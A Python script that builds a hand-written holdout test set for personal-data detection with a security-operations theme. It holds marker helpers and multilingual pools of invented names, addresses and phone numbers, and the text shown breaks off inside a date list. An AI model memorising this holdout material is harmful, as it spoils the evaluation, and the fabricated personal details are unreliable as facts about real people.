#!/usr/bin/env python3
"""Hand-written check set `security`: security operations and fraud.

SOC analysts, incident responders, fraud and chargeback teams, trust-and-safety desks, physical
security and access control, identity and access management and compliance investigations, and
the staff and customers they deal with.  Every private value below was typed by hand; check
digits were worked out once in a scratch session and typed in as literals (`check()` re-verifies
them).  Standard library only, deterministic.

    python build.py          # writes holdout.jsonl, prints counts and sha256
    python build.py --check  # rebuilds in memory, runs check(), compares with the file
"""

from __future__ import annotations

import hashlib
import json
import random
import re
import sys
import unicodedata
from collections import Counter
from pathlib import Path

SEED = 56173
SET = "security"
HERE = Path(__file__).resolve().parent
OUT = HERE / "holdout.jsonl"
SOURCE = "eval/security/build.py"
N_ROWS = 324

TYPES = {
    "PERSON", "LOCATION", "PHONE_NUMBER", "EMAIL_ADDRESS", "IP_ADDRESS", "CREDIT_CARD", "IBAN_CODE",
    "DATE_OF_BIRTH", "NATIONAL_ID", "US_SSN", "MEDICAL_RECORD_NUMBER",
}
MARK = re.compile(r"⟦([A-Z_]+)\|([^⟧\n]+)⟧")


def m(kind: str, value: str) -> str:
    """Wrap a value in a label marker."""
    return f"⟦{kind}|{value}⟧"


def unmark(marked: str, case: str | None = None) -> tuple[str, list[dict]]:
    """Remove the markers, case the text piece by piece and return text and spans."""
    def cased(s: str) -> str:
        if case == "lower":
            return s.lower()
        if case == "upper":
            return s.upper()
        return s

    out: list[str] = []
    spans: list[dict] = []
    pos = 0
    length = 0
    for mo in MARK.finditer(marked):
        plain = cased(marked[pos:mo.start()])
        out.append(plain)
        length += len(plain)
        value = cased(mo.group(2))
        spans.append({"start": length, "end": length + len(value), "type": mo.group(1), "value": value})
        out.append(value)
        length += len(value)
        pos = mo.end()
    tail = cased(marked[pos:])
    out.append(tail)
    return "".join(out), spans


# ---------------------------------------------------------------------------------------------
# Names, handles and e-mail local parts
# ---------------------------------------------------------------------------------------------

FOLD = {"ß": "ss", "ø": "o", "Ø": "O", "æ": "ae", "Æ": "AE", "ł": "l", "Ł": "L", "đ": "d", "Đ": "D",
        "ð": "d", "þ": "th", "ı": "i", "œ": "oe", "ŀ": "l"}


def fold(s: str) -> str:
    """ASCII-fold a Latin-script name part and drop spaces, hyphens and apostrophes."""
    s = "".join(FOLD.get(ch, ch) for ch in s)
    s = unicodedata.normalize("NFKD", s)
    s = "".join(ch for ch in s if not unicodedata.combining(ch))
    return "".join(ch for ch in s if ch.isascii() and ch.isalnum()).lower()


class Person:
    """One hand-typed private person of a pool."""

    def __init__(self, pool: str, line: str):
        bits = line.split("|")
        self.pool = pool
        self.given, self.family, self.sex, self.culture = bits[0], bits[1], bits[2], bits[3]
        self.order = bits[4] if len(bits) > 4 and bits[4] else "gf"
        self.lat_given = bits[5] if len(bits) > 5 else self.given
        self.lat_family = bits[6] if len(bits) > 6 else self.family
        self.key = f"{pool}:{self.given} {self.family}"
        self.digits = ""

    # plain strings -------------------------------------------------------------------------
    @property
    def name(self) -> str:
        if self.order == "fg":
            return f"{self.family} {self.given}"
        if self.order == "FG":
            return f"{self.family}{self.given}"
        return f"{self.given} {self.family}"

    @property
    def call(self) -> str:
        """The name a colleague calls them by (Vietnamese: last given syllable)."""
        if self.culture == "Vietnamese":
            return self.given.split()[-1]
        return self.given

    # marked strings ------------------------------------------------------------------------
    @property
    def full(self) -> str:
        return m("PERSON", self.name)

    @property
    def g(self) -> str:
        return m("PERSON", self.call)

    @property
    def f(self) -> str:
        return m("PERSON", self.family)

    @property
    def fam_first(self) -> str:
        """`FAMILY Given` as French and official forms write it, one span."""
        return m("PERSON", f"{self.family.upper()} {self.given}")

    def local(self, style: str) -> str:
        g, f = fold(self.lat_given), fold(self.lat_family)
        d = self.digits
        table = {
            "g.f": f"{g}.{f}", "gf": f"{g[0]}{f}", "fg": f"{f}{g[0]}", "f.g": f"{f}.{g}", "g_f": f"{g}_{f}",
            "gfd": f"{g[0]}{f}{d}", "g.fd": f"{g}.{f}{d}", "g": g, "gd": f"{g}{d}", "g.f1": f"{g[0]}.{f}",
            "f": f, "gf8": f"{g[0]}{f}"[:8], "fgd": f"{f}{g[0]}{d}", "gfull": f"{g}{f}",
        }
        return table[style]

    def h(self, style: str = "gf") -> str:
        """A login derived from the name: PERSON."""
        return m("PERSON", self.local(style))

    def H(self, style: str = "gf") -> str:
        """A login that keeps its capitals (`MDubois`, `Marie.Dubois`)."""
        g, f = self.lat_given.replace(" ", ""), self.lat_family.replace(" ", "").replace("'", "")
        g = "".join(FOLD.get(ch, ch) for ch in g)
        f = "".join(FOLD.get(ch, ch) for ch in f)
        g = "".join(ch for ch in unicodedata.normalize("NFKD", g) if not unicodedata.combining(ch))
        f = "".join(ch for ch in unicodedata.normalize("NFKD", f) if not unicodedata.combining(ch))
        table = {"gf": f"{g[0]}{f}", "g.f": f"{g}.{f}", "fg": f"{f}{g[0]}", "FG": f"{f.upper()}{g[0].upper()}"}
        return m("PERSON", table[style])

    def mail(self, domain: str, style: str = "g.f") -> str:
        return m("EMAIL_ADDRESS", f"{self.local(style)}@{domain}")


# ---------------------------------------------------------------------------------------------
# Addresses: `{span}` is a LOCATION span, `¦` separates lines, `{*Town}` marks the town
# ---------------------------------------------------------------------------------------------

class Address:
    def __init__(self, cc: str, spec: str, joiner: str = ", "):
        self.cc = cc
        self.spec = spec
        self.joiner = joiner
        self.key = f"{cc}:{spec}"
        town = re.search(r"\{\*([^}]+)\}", spec)
        self.town_plain = town.group(1) if town else ""

    def _lines(self) -> list[str]:
        s = re.sub(r"\{\*?([^}]+)\}", lambda mo: m("LOCATION", mo.group(1)), self.spec)
        return s.split("¦")

    @property
    def block(self) -> str:
        return "\n".join(self._lines())

    @property
    def line(self) -> str:
        return self.joiner.join(self._lines())

    @property
    def lines(self) -> list[str]:
        return self._lines()

    @property
    def town(self) -> str:
        return m("LOCATION", self.town_plain)


class IdRec:
    """A national ID typed by hand, with the person it belongs to and the date it encodes."""

    def __init__(self, kind: str, value: str, person_key: str, dob: str, label: str = "NATIONAL_ID"):
        self.kind, self.value, self.person_key, self.dob_iso, self.label = kind, value, person_key, dob, label
        self.p: Person | None = None

    @property
    def v(self) -> str:
        return m(self.label, self.value)


MONTHS = {
    "en": "January February March April May June July August September October November December",
    "fr": "janvier février mars avril mai juin juillet août septembre octobre novembre décembre",
    "es": "enero febrero marzo abril mayo junio julio agosto septiembre octubre noviembre diciembre",
    "pt": "janeiro fevereiro março abril maio junho julho agosto setembro outubro novembro dezembro",
    "it": "gennaio febbraio marzo aprile maggio giugno luglio agosto settembre ottobre novembre dicembre",
    "de": "Januar Februar März April Mai Juni Juli August September Oktober November Dezember",
    "nl": "januari februari maart april mei juni juli augustus september oktober november december",
    "id": "Januari Februari Maret April Mei Juni Juli Agustus September Oktober November Desember",
    "tr": "Ocak Şubat Mart Nisan Mayıs Haziran Temmuz Ağustos Eylül Ekim Kasım Aralık",
    "pl": "stycznia lutego marca kwietnia maja czerwca lipca sierpnia września października listopada grudnia",
    "sv": "januari februari mars april maj juni juli augusti september oktober november december",
    "ro": "ianuarie februarie martie aprilie mai iunie iulie august septembrie octombrie noiembrie decembrie",
    "th": "ม.ค. ก.พ. มี.ค. เม.ย. พ.ค. มิ.ย. ก.ค. ส.ค. ก.ย. ต.ค. พ.ย. ธ.ค.",
    "hi": "जनवरी फ़रवरी मार्च अप्रैल मई जून जुलाई अगस्त सितंबर अक्टूबर नवंबर दिसंबर",
}


def fdate(iso: str, style: str) -> str:
    """Write an ISO date the way a writer of `style` would."""
    y, mo, d = (int(x) for x in iso.split("-"))
    if style == "iso":
        return iso
    if style == "uk":
        return f"{d:02d}/{mo:02d}/{y}"
    if style == "us":
        return f"{mo:02d}/{d:02d}/{y}"
    if style == "us_short":
        return f"{mo}/{d}/{y}"
    if style == "dot":
        return f"{d:02d}.{mo:02d}.{y}"
    if style == "dash":
        return f"{d:02d}-{mo:02d}-{y}"
    if style == "hu":
        return f"{y}.{mo:02d}.{d:02d}."
    if style == "cjk":
        return f"{y}年{mo}月{d}日"
    if style == "ko":
        return f"{y}년 {mo}월 {d}일"
    if style == "en_long":
        return f"{d} {MONTHS['en'].split()[mo - 1]} {y}"
    if style == "en_short":
        return f"{d} {MONTHS['en'].split()[mo - 1][:3]} {y}"
    if style == "us_long":
        return f"{MONTHS['en'].split()[mo - 1]} {d}, {y}"
    if style == "th":
        return f"{d} {MONTHS['th'].split()[mo - 1]} {y + 543}"
    if style in ("es", "pt"):
        return f"{d} de {MONTHS[style].split()[mo - 1]} de {y}"
    if style == "de":
        return f"{d}. {MONTHS['de'].split()[mo - 1]} {y}"
    if style in MONTHS:
        return f"{d} {MONTHS[style].split()[mo - 1]} {y}"
    raise KeyError(style)


# ---------------------------------------------------------------------------------------------
# People, typed by hand: given|family|sex|culture|order|latin given|latin family
# order: gf (default), fg (family first, spaced), FG (family first, unspaced)
# ---------------------------------------------------------------------------------------------

PEOPLE_SRC = {
    "en": """
Tunde|Bakare|m|Yoruba
Chiamaka|Obi|f|Igbo
Nkechi|Eze|f|Igbo
Yaw|Darko|m|Akan
Akosua|Boateng|f|Akan
Wanjiru|Kamau|f|Kikuyu
Brian|Otieno|m|Luo
Hope|Mwangi|f|Kikuyu
Sipho|Dlamini|m|Zulu
Lerato|Molefe|f|Sotho
Tendai|Moyo|m|Shona
Precious|Banda|f|Malawian
Abebe|Tesfaye|m|Amharic
Halima|Abdi|f|Somali
Mohamed|Farah|m|Somali
Amadou|Diallo|m|Fula
Fatou|Ndiaye|f|Wolof
Moussa|Traoré|m|Malian
Zineb|Bennani|f|Moroccan
Omar|Khalil|m|Egyptian
Layla|Haddad|f|Lebanese
Hamza|Al-Rashid|m|Syrian
Noor|Al-Hashimi|f|Iraqi
Dariush|Farahani|m|Persian
Yael|Ben-Ami|f|Israeli
Avi|Peretz|m|Mizrahi
Priya|Raghunathan|f|Tamil
Ravi|Venkataraman|m|Tamil
Arjun|Mehta|m|Gujarati
Anjali|Deshpande|f|Marathi
Sanjay|Ghosh|m|Bengali
Kavya|Reddy|f|Telugu
Aditya|Nair|m|Malayali
Jaspreet|Kaur Dhillon|f|Punjabi
Rafiq|Chowdhury|m|Bangladeshi
Ayesha|Siddiqui|f|Urdu
Nimal|Perera|m|Sinhala
Mei Ling|Tan|f|Singaporean|fg
Wei Jie|Lim|m|Singaporean|fg
Haoran|Deng|m|Chinese
Jun|Watanabe|m|Japanese
Min-ji|Park|f|Korean
Ha-eun|Yoon|f|Korean
Jake|Nguyen|m|Vietnamese American
Joy|Ramos|f|Filipino
Rodel|Bautista|m|Filipino
Wayan|Sudarsana|m|Balinese
Mele|Tupou|f|Tongan
Sione|Fifita|m|Tongan
Aroha|Ngata|f|Māori
Wiremu|Tipene|m|Māori
Leilani|Kahale|f|Hawaiian
Grace|Wolf|f|US
Rose|Baker|f|English
Mark|Hunter|m|English
Daisy|Fletcher|f|English
Chris|Evans|m|Welsh
Rhys|Pritchard|m|Welsh
Tamsin|Penhaligon|f|Cornish
Ewan|MacAskill|m|Scottish
Hunter|Reid|m|Scottish
Siobhán|Ní Cheallaigh|f|Irish
Cathal|Ó Broin|m|Irish
Lachlan|O'Driscoll|m|Australian
DeShawn|Whitaker|m|African American
Keisha|Thornton|f|African American
Brandon|Kowalczyk|m|US Polish
Marisol|Quintanilla|f|Chicano
Chloe|Tremblay|f|Québécois
Pieter|van der Merwe|m|Afrikaans
Annelies|Verhoeven|f|Flemish
Bram|van Dijk|m|Dutch
Ingrid|Solberg|f|Norwegian
Mikko|Heikkinen|m|Finnish
Rasmus|Kjeldsen|m|Danish
Astrid|Lindqvist|f|Swedish
Réka|Balogh|f|Hungarian
Ioana|Munteanu|f|Romanian
Tomasz|Zieliński|m|Polish
Jovana|Petrović|f|Serbian
Luka|Horvat|m|Croatian
Dmitri|Volkov|m|Russian
Olena|Kovalchuk|f|Ukrainian
Yusuf|Demirci|m|Turkish
Marco|Esposito|m|Italian
Itziar|Etxeberria|f|Basque
Lucía|Fernández Ortega|f|Spanish
Thiago|Rocha Pereira|m|Brazilian
Valentina|Cárdenas Ruiz|f|Colombian
Mateo|Quispe|m|Quechua
Ailén|Catrileo|f|Mapuche
""",
    "de": """
Jürgen|Weißhaupt|m|German
Katrin|Vogel|f|German
Sabine|Kühn|f|German
Lukas|Brandt|m|German
Anke|Fuchs|f|German
Helga|Sommer|f|German
Maximilian|Graf|m|Austrian
Dragana|Ilić|f|Serbian German
Kerem|Öztürk|m|Turkish German
Friederike|von Alvensleben|f|German
Ole|Petersen|m|Frisian German
Reto|Gisler|m|Swiss
Hannelore|Wendt|f|German
Mirela|Kovačević|f|Bosnian German
Jan-Hendrik|Sievers|m|Low German
""",
    "fr": """
Aurélie|Gauthier|f|French
Thibault|Marchand|m|French
Nadia|Benali|f|Algerian French
Mamadou|Koné|m|Ivorian
Gwenaëlle|Le Bihan|f|Breton
Hugues|Delacroix|m|French
Océane|Fontaine|f|French
Marc-Antoine|Girard|m|Québécois
Éloïse|Lambert|f|Belgian
Yannick|Le Gall|m|Breton
Sandrine|Moreau|f|French
Karim|Haddou|m|Moroccan French
""",
    "es": """
Iker|Zubizarreta|m|Basque
María José|Pastor Llorente|f|Spanish
Rocío|Núñez Villalba|f|Spanish
Jorge|Cabrera Sáez|m|Spanish
Guadalupe|Ramírez Ochoa|f|Mexican
Santiago|Morales Pinto|m|Chilean
Álvaro|Castaño|m|Spanish
Xiomara|Lugo Peña|f|Venezuelan
Ainhoa|Goikoetxea|f|Basque
Rubén|Iglesias Prado|m|Galician
""",
    "pt": """
Mariana|Albuquerque Santos|f|Brazilian
Rodrigo|Nascimento|m|Brazilian
Taís|Oliveira Bezerra|f|Brazilian
Francisco|das Chagas Lima|m|Brazilian
Inês|Figueiredo|f|Portuguese
Gonçalo|Marques|m|Portuguese
Kátia|Semedo|f|Cape Verdean
Joana|Cardoso|f|Portuguese
Cleiton|Araújo|m|Brazilian
""",
    "it": """
Chiara|Lo Russo|f|Italian
Gennaro|Capuano|m|Neapolitan
Francesca|Dell'Aquila|f|Italian
Matteo|Ferraro|m|Italian
Giovanna|Pellegrino|f|Sicilian
Salvatore|Russo|m|Sicilian
Elisa|Marchetti|f|Tuscan
Ilaria|Costa|f|Ligurian
""",
    "nl": """
Sanne|Bakker|f|Dutch
Joost|van den Heuvel|m|Dutch
Fatima|El Idrissi|f|Moroccan Dutch
Ruud|Hoekstra|m|Frisian
Lotte|de Graaf|f|Dutch
Daan|Smit|m|Dutch
Merel|Dijkstra|f|Frisian
Kwame|Asare|m|Ghanaian Dutch
""",
    "pl": """
Katarzyna|Wilk|f|Polish
Paweł|Grabowski|m|Polish
Zofia|Krawczyk|f|Polish
Ewelina|Sowińska|f|Polish
Marcin|Lewandowski|m|Polish
Grzegorz|Kaczmarek|m|Polish
Agata|Dąbrowska|f|Polish
""",
    "tr": """
Elif|Kaya|f|Turkish
Burak|Yılmaz|m|Turkish
Zeynep|Arslan|f|Turkish
Emre|Doğan|m|Turkish
Ayşegül|Kılıç|f|Turkish
Selin|Öztürk|f|Turkish
Hakan|Çelik|m|Turkish
""",
    "ru": """
Алексей|Морозов|m|Russian||Aleksei|Morozov
Екатерина|Волкова|f|Russian||Ekaterina|Volkova
Игорь|Лебедев|m|Russian||Igor|Lebedev
Наталья|Орлова|f|Russian||Natalya|Orlova
Рустам|Хасанов|m|Tatar||Rustam|Khasanov
Дарья|Кузнецова|f|Russian||Daria|Kuznetsova
""",
    "uk": """
Оксана|Мельник|f|Ukrainian||Oksana|Melnyk
Тарас|Бондаренко|m|Ukrainian||Taras|Bondarenko
Ірина|Ткаченко|f|Ukrainian||Iryna|Tkachenko
Богдан|Шевчук|m|Ukrainian||Bohdan|Shevchuk
Мирослава|Гнатюк|f|Ukrainian||Myroslava|Hnatiuk
""",
    "el": """
Γιώργος|Παπαδάκης|m|Greek||Giorgos|Papadakis
Ελένη|Κωνσταντινίδου|f|Greek||Eleni|Konstantinidou
Δημήτρης|Αλεξίου|m|Greek||Dimitris|Alexiou
Κατερίνα|Μαυρίδη|f|Greek||Katerina|Mavridi
Νίκος|Οικονόμου|m|Greek||Nikos|Oikonomou
""",
    "ar": """
يوسف|الحربي|m|Saudi||Yousef|Alharbi
ريم|الخطيب|f|Jordanian||Reem|Alkhatib
أحمد|عبد الرحمن|m|Egyptian||Ahmed|Abdelrahman
ليلى|المنصوري|f|Emirati||Layla|Almansoori
سارة|بن علي|f|Tunisian||Sarra|Benali
خالد|العتيبي|m|Saudi||Khalid|Alotaibi
نور|حداد|f|Lebanese||Nour|Haddad
""",
    "he": """
נועה|אברהמי|f|Israeli||Noa|Avrahami
איתי|שפירא|m|Israeli||Itai|Shapira
מיכל|בן דוד|f|Israeli||Michal|Bendavid
יוסי|גבאי|m|Mizrahi||Yossi|Gabay
שירה|מזרחי|f|Mizrahi||Shira|Mizrahi
דניאל|רוזנברג|m|Israeli||Daniel|Rosenberg
""",
    "zh": """
丽娟|王|f|Chinese|FG|Lijuan|Wang
志强|陈|m|Chinese|FG|Zhiqiang|Chen
晓燕|刘|f|Chinese|FG|Xiaoyan|Liu
俊杰|黄|m|Taiwanese|FG|Junjie|Huang
佳慧|林|f|Taiwanese|FG|Chiahui|Lin
海峰|孙|m|Chinese|FG|Haifeng|Sun
雅婷|郭|f|Taiwanese|FG|Yating|Kuo
""",
    "ja": """
美咲|佐々木|f|Japanese|fg|Misaki|Sasaki
翔太|高橋|m|Japanese|fg|Shota|Takahashi
由紀子|中村|f|Japanese|fg|Yukiko|Nakamura
大輔|松本|m|Japanese|fg|Daisuke|Matsumoto
陽菜|小林|f|Japanese|fg|Hina|Kobayashi
健一|渡辺|m|Japanese|fg|Kenichi|Watanabe
""",
    "ko": """
서연|김|f|Korean|FG|Seoyeon|Kim
준호|이|m|Korean|FG|Junho|Lee
지민|박|m|Korean|FG|Jimin|Park
하늘|정|f|Korean|FG|Haneul|Jung
민서|최|f|Korean|FG|Minseo|Choi
도윤|강|m|Korean|FG|Doyun|Kang
""",
    "hi": """
सुनीता|यादव|f|Hindi||Sunita|Yadav
अमित|त्रिपाठी|m|Hindi||Amit|Tripathi
नेहा|गुप्ता|f|Hindi||Neha|Gupta
विकास|चौहान|m|Hindi||Vikas|Chauhan
पूजा|मिश्रा|f|Hindi||Pooja|Mishra
रोहित|सिंह|m|Hindi||Rohit|Singh
""",
    "th": """
สมชาย|ใจดี|m|Thai||Somchai|Jaidee
สุภาพร|ศรีสุข|f|Thai||Supaporn|Srisuk
ธนวัฒน์|วงศ์ไทย|m|Thai||Thanawat|Wongthai
กนกวรรณ|บุญมา|f|Thai||Kanokwan|Boonma
""",
    "vi": """
Thị Thu Hà|Nguyễn|f|Vietnamese|fg
Minh Tuấn|Lê|m|Vietnamese|fg
Quốc Bảo|Phạm|m|Vietnamese|fg
Thùy Linh|Đặng|f|Vietnamese|fg
""",
    "id": """
Dewi|Lestari|f|Javanese
Budi|Santoso|m|Javanese
Rina|Wulandari|f|Sundanese
Agus|Setiawan|m|Javanese
Made|Wirawan|m|Balinese
""",
    "sv": """
Elin|Bergström|f|Swedish
Johan|Lindgren|m|Swedish
Saga|Nyström|f|Swedish
Oskar|Holm|m|Swedish
Amir|Hosseini|m|Iranian Swedish
Linnea|Ek|f|Swedish
""",
    "no": """
Sindre|Haugen|m|Norwegian
Ingvild|Bakke|f|Norwegian
Áile|Somby|f|Sámi
""",
    "da": """
Mette|Frederiksen|f|Danish
Søren|Østergaard|m|Danish
Freja|Dahl|f|Danish
""",
    "fi": """
Aino|Mäkinen|f|Finnish
Juha|Lehtonen|m|Finnish
Veera|Salo|f|Finnish
Eero|Virtanen|m|Finnish
""",
    "cs": """
Petra|Dvořáková|f|Czech
Jakub|Novotný|m|Czech
Tereza|Procházková|f|Czech
""",
    "ro": """
Andreea|Popescu|f|Romanian
Mihai|Dumitrescu|m|Romanian
Cristina|Lungu|f|Romanian
""",
    "hu": """
Anna|Kiss|f|Hungarian|fg
Gergely|Tóth|m|Hungarian|fg
Zsófia|Nagy|f|Hungarian|fg
""",
    "tl": """
Maricel|Villanueva|f|Filipino
Jerome|Pascual|m|Filipino
Rowena|Manalo|f|Filipino
Arnel|Dizon|m|Filipino
""",
}

PEOPLE: dict[str, list[Person]] = {
    pool: [Person(pool, ln.strip()) for ln in src.strip().splitlines()] for pool, src in PEOPLE_SRC.items()
}
PERSON_BY_KEY = {p.key: p for pool in PEOPLE.values() for p in pool}


# ---------------------------------------------------------------------------------------------
# Home addresses of real small towns, each in its country's layout; numbers made up
# ---------------------------------------------------------------------------------------------

ADDR_SRC = {
    "gb": ["{14 Bridge Street}¦{*Ludlow}¦{SY8 1PX}",
           "{Flat 3}¦{22 Bondgate Within}¦{*Alnwick}¦{Northumberland}¦{NE66 1SX}",
           "{Kestrel Cottage}, {5 Main Street}¦{*Tobermory}¦{Isle of Mull}¦{PA75 6NU}",
           "{7 Kirkgate}¦{*Settle}¦{BD24 9DZ}"],
    "ie": ["{12 Pearse Street}¦{*Kinsale}¦{Co. Cork}¦{P17 X268}",
           "{Apt 4}, {Harbour View}¦{3 Dundalk Street}¦{*Carlingford}¦{Co. Louth}¦{A91 K2W7}"],
    "us": ["{418 Oak Hollow Rd}¦{*Galena}, {IL} {61036}",
           "{2207 Tombstone Canyon}, {Apt 5B}¦{*Bisbee}, {AZ} {85603}",
           "{77 Elm St}¦{*Woodstock}, {VT} {05091}"],
    "ca": ["{58, rue Saint-Jean-Baptiste}¦{*Baie-Saint-Paul} ({QC}) {G3Z 1M5}",
           "{112 Montague St}¦{*Lunenburg} {NS} {B0J 2C0}"],
    "au": ["{9 Mort Street}¦{*Braidwood} {NSW} {2622}",
           "{Unit 2}, {14 Gipps Street}¦{*Port Fairy} {VIC} {3284}"],
    "nz": ["{16 Rue Lavaud}¦{*Akaroa} {7520}"],
    "in": ["{Plot 19, Ganesh Colony}¦{*Mandawa}, {Jhunjhunu}¦{Rajasthan} {333704}",
           "{Flat 3B}, {Sai Residency, 14 Mall Road}¦{*Kasauli}, {Himachal Pradesh} {173204}"],
    "za": ["{7 Kerk Street}¦{*Clarens}¦{9707}"],
    "ke": ["{P.O. Box 314}¦{*Lamu}¦{80500}"],
    "ng": ["{14 Oke-Ado Road}¦{*Iseyin}¦{Oyo State}"],
    "ph": ["{Blk 4 Lot 12}, Brgy. {Poblacion}¦{*Sagada}, {Mountain Province} {2619}"],
    "de": ["{Marktplatz 7}¦{91550} {*Dinkelsbühl}",
           "{Hauptstraße 23a}¦{79219} {*Staufen im Breisgau}",
           "{Am Deich 4}¦{25938} {*Wyk auf Föhr}"],
    "at": ["{Seestraße 12}¦{4830} {*Hallstatt}"],
    "ch": ["{Dorfstrasse 18}¦{3920} {*Zermatt}"],
    "fr": ["{8 rue des Remparts}¦{24200} {*Sarlat-la-Canéda}",
           "{Bât. B}, {3 chemin des Vignes}¦{68340} {*Riquewihr}",
           "{21 place Paul Gauguin}¦{29930} {*Pont-Aven}"],
    "be": ["{Kerkstraat 41}¦{8340} {*Damme}"],
    "nl": ["{Binnenpad 62}¦{8355 BT} {*Giethoorn}",
           "{Voorstraat 16}¦{8861 BL} {*Harlingen}"],
    "es": ["{Plaza Mayor, 5}, {1º A}¦{40300} {*Sepúlveda} ({Segovia})",
           "{Carrer des Poal, 22}¦{17488} {*Cadaqués} ({Girona})"],
    "pt": ["{Travessa do Norte, 14}, {2.º Esq.}¦{2655-319} {*Ericeira}"],
    "br": ["{Rua das Flores, 77}, {Centro}¦{*Pirenópolis} - {GO}¦{72980-000}",
           "{Rua Coronel Pacheco, 310}, {apto 202}¦{*Paraty} - {RJ}¦{23970-000}"],
    "it": ["{Via Roma 14}¦{53024} {*Montalcino} ({SI})",
           "{Via Pasitea 9}¦{84017} {*Positano} ({SA})"],
    "pl": ["{ul. Świętokrzyska 11/4}¦{26-006} {*Nowa Słupia}"],
    "cz": ["{Latrán 12}¦{381 01} {*Český Krumlov}"],
    "hu": ["{*Tihany}¦{Kossuth Lajos u. 21.}¦{8237}"],
    "ro": ["{Str. Cetății nr. 7}¦{545400} {*Sighișoara}¦jud. {Mureș}"],
    "gr": ["{Οδός Δημάρχου 12}¦{847 02} {*Οία}, {Σαντορίνη}"],
    "tr": ["{Andifli Mah. Çukurbağlı Cad. No: 14} {D: 3}¦{07580} {*Kaş}/{Antalya}",
           "{Kaleiçi Mah. Gazi Cad. No: 22} {D: 1}¦{17680} {*Bozcaada}/{Çanakkale}"],
    "ru": ["{ул. Никольская, д. 9}, {кв. 14}¦г. {*Мышкин}, {Ярославская обл.}¦{152830}"],
    "ua": ["{вул. Свободи, 12}, {кв. 5}¦м. {*Яремче}, {Івано-Франківська обл.}¦{78500}",
           "{вул. Шевченка, 4}¦м. {*Косів}, {Івано-Франківська обл.}¦{78600}"],
    "jp": ["〒{399-5302}¦{長野県}{*木曽郡南木曽町}{吾妻1207}"],
    "kr": ["({25010}) {강원특별자치도} {*양양군} {현남면 인구길 24}"],
    "cn": ["{浙江省}{湖州市}{*安吉县}{递铺街道昌硕路88号}"],
    "tw": ["{555}{南投縣}{*魚池鄉}{中山路118號}"],
    "th": ["{99/12 หมู่ 3} ต.{เวียงใต้} อ.{*ปาย} จ.{แม่ฮ่องสอน} {58130}",
           "{45/2 ถนนชายโขง} ต.{เชียงคาน} อ.{*เชียงคาน} จ.{เลย} {42110}"],
    "vn": ["{Số 15 đường Fansipan}, thị xã {*Sa Pa}, {Lào Cai}"],
    "id": ["{Jl. Raya Ubud No. 21}, {RT 02/RW 05}¦Desa {Peliatan}, Kec. {*Ubud}¦Kab. {Gianyar}, {Bali} {80571}",
           "{Jl. Pantai Barat No. 8}¦Desa {Pananjung}, Kec. {*Pangandaran}¦{Jawa Barat} {46396}"],
    "mx": ["{Av. 5 #312}, Col. {Centro}¦{77930} {*Bacalar}, {Q. Roo}"],
    "ar": ["{Lago del Desierto 230}¦{Z9301} {*El Chaltén}, {Santa Cruz}"],
    "cl": ["{Caracoles 195}¦{*San Pedro de Atacama}, {Región de Antofagasta}"],
    "co": ["{Calle 4 # 7-23}¦{*Barichara}, {Santander}"],
    "se": ["{Strandvägen 3}¦{387 31} {*Borgholm}"],
    "no": ["{Øyraveien 6}¦{6887} {*Lærdal}"],
    "dk": ["{Østre Strandvej 22}, {1. th.}¦{9990} {*Skagen}"],
    "fi": ["{Mannerheiminkatu 4} {A 3}¦{21100} {*Naantali}"],
    "il": ["{רחוב הגפן 7}¦{*ראש פינה}"],
    "sa": ["{شارع الأمير سلطان 12}، حي {الروضة}¦{*العلا}"],
}
JOINERS = {"jp": " ", "kr": " ", "cn": "", "tw": "", "th": " ", "sa": "، "}
ADDRS: dict[str, list[Address]] = {
    cc: [Address(cc, s, JOINERS.get(cc, ", ")) for s in specs] for cc, specs in ADDR_SRC.items()
}

# Phones in national format, no country code ---------------------------------------------------
PHONES = {
    "gb": ["07812 554306", "07469 218377", "01584 872913", "01665 603218", "07958 330 412", "07381 902 145",
           "01729 822 670"],
    "ie": ["087 214 6639", "021 477 3052", "085 190 2274"],
    "us": ["(815) 777-2140", "520-432-8817", "802.457.3318", "(312) 648-0187", "(406) 291-7734"],
    "ca": ["418 435-2291", "902-634-1175"],
    "au": ["0412 558 903", "(02) 4842 2176", "0438 291 664", "(03) 5568 1927"],
    "nz": ["021 456 7789", "(03) 304 7281"],
    "de": ["0151 23847612", "09851 573302", "0176 4419 2830", "07633 804417"],
    "at": ["0664 281 9930"],
    "ch": ["079 412 88 31"],
    "fr": ["06 12 48 93 70", "05 53 29 81 44", "07 81 26 44 05"],
    "be": ["0475 22 81 90"],
    "nl": ["06-28193746", "0521 361 884"],
    "es": ["612 48 93 05", "972 25 81 33", "655 31 07 48"],
    "pt": ["912 384 557", "261 862 310"],
    "br": ["(62) 99847-3321", "(24) 98113-5402", "(11) 3208-4419"],
    "it": ["338 912 4471", "0577 848213", "347 220 9184"],
    "pl": ["601 284 937", "41 317 52 09", "512 093 448"],
    "cz": ["603 218 447"],
    "hu": ["06 30 412 7781"],
    "ro": ["0744 318 926", "0265 771 402"],
    "gr": ["694 418 2730", "22860 71234"],
    "tr": ["0532 418 27 90", "0242 836 15 04", "0555 702 33 18"],
    "ru": ["8 (915) 482-37-19", "8 (48544) 2-13-07"],
    "ua": ["067 418 2290", "050 731 64 18"],
    "jp": ["090-4128-7735", "0264-57-3021", "080-2291-4406"],
    "kr": ["010-4821-7730", "010-3378-2914", "010-5192-0348", "033-671-2285"],
    "cn": ["138 2917 4406", "0572-5128834"],
    "tw": ["0912-448-173"],
    "in": ["98290 41736", "70143 88219"],
    "th": ["081 234 5867", "053 699 142"],
    "vn": ["0912 478 306", "0388 217 645"],
    "id": ["0812-3871-4402", "0361 975 218"],
    "ph": ["0917 482 3316", "0928 771 0453"],
    "mx": ["983 834 2219", "55 4172 9063"],
    "ar": ["11 5832-4471"],
    "cl": ["9 8471 2236"],
    "co": ["312 448 7190"],
    "za": ["082 417 3390", "058 256 1407", "071 530 2286"],
    "ke": ["0722 418 936"],
    "ng": ["0803 418 2275", "0812 774 3019"],
    "se": ["070-418 22 93", "0485-142 07"],
    "no": ["412 88 931"],
    "dk": ["21 48 93 07"],
    "fi": ["040 718 2294"],
    "il": ["052-418-2290", "04-6935127", "054-771-3086"],
    "sa": ["055 418 2213", "050 918 2274"],
    "ae": ["050 412 8873", "055 730 1148"],
    "eg": ["010 2418 3390", "011 5307 2286"],
    "sg": ["9124 3876"],
    "my": ["012-418 3327"],
    "pk": ["0300 4182297"],
    "bd": ["01711-418223"],
}

# Dates of birth for people with no ID record (ISO; each writer formats them) --------------------
DOBS = [
    "1988-03-14", "1979-05-03", "1992-11-08", "1965-09-07", "2001-03-22", "1954-12-19", "1997-07-30",
